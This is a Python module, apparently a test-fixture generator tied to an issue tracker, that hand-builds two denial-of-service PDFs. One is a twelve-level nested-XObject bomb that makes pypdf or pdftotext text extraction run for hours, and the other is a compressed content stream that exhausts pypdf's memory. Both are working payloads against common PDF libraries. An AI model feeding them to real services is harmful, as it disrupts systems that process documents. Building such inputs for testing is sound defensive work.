"""PDFs made to hurt a reader: small files whose reading never ends (issue 30, item 4).

`xobject_bomb` writes a 4 KB PDF whose one page draws a form XObject eight times, which
draws the next eight times, twelve levels deep, the last one 3,000 words: 8^12 × 3,000
text runs for a reader that follows every drawing, as pypdf's text extraction does (and
poppler's pdftotext). pypdf 7 stops after 5,000 form invocations per extraction, each of
which parses the last form's 3,000 text objects again: hours per extraction call.
Written by hand here, object by object, with a correct cross-reference table.
"""

from __future__ import annotations

import zlib
from pathlib import Path

LEVELS = 12
FANOUT = 8
FONT = b"<< /Font << /F1 4 0 R >> >>"
# The last form's content: 3,000 words, each its own text object (48 KB, 300 bytes packed).
LEAF = b" ".join([b"BT /F1 12 Tf 0 0 Td (bomb) Tj ET"] * 3000)


def _stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object's body: its dictionary with /Length, then the data (Flate-compressed)."""
    packed = zlib.compress(data, 9)
    head = dictionary[:-2] + b" /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
    return head + packed + b"\nendstream"


def _form(level: int, number: int) -> bytes:
    """Form XObject *level*: draws the next one FANOUT times (the last shows a word)."""
    head = b"<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources "
    if level == LEVELS - 1:
        return _stream(head + FONT + b" >>", LEAF)
    resources = b"<< /XObject << /X %d 0 R >> /Font << /F1 4 0 R >> >>" % (number + 1)
    return _stream(head + resources + b" >>", b" ".join([b"/X Do"] * FANOUT))


def xobject_bomb(path: Path) -> Path:
    """Write the nested-XObject PDF to *path*; the path."""
    page = b"BT /F1 12 Tf 72 700 Td (A page) Tj ET " + b" ".join([b"/X Do"] * FANOUT)
    return _write(path, page)


def memory_bomb(path: Path) -> Path:
    """Write a PDF whose page shows a 16-letter string 3 million times: 66 MB of content
    (under pypdf's 75 MB limit on a decompressed stream) in 160 KB, which pypdf parses into
    Python objects for about 380 MB before its limit on tokens stops it, 50 s later."""
    words = b"(xxxxxxxxxxxxxxxx) Tj\n" * 3_000_000
    return _write(path, b"BT /F1 12 Tf " + words + b"ET")


def _write(path: Path, page: bytes) -> Path:
    """Write a one-page PDF drawing *page* (with the nested forms) to *path*; the path."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R "
        b"/Resources << /XObject << /X 6 0 R >> /Font << /F1 4 0 R >> >> >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: _stream(b"<< >>", page),
    }
    for level in range(LEVELS):
        objects[6 + level] = _form(level, 6 + level)
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    out += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, size))
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    path.write_bytes(bytes(out))
    return path
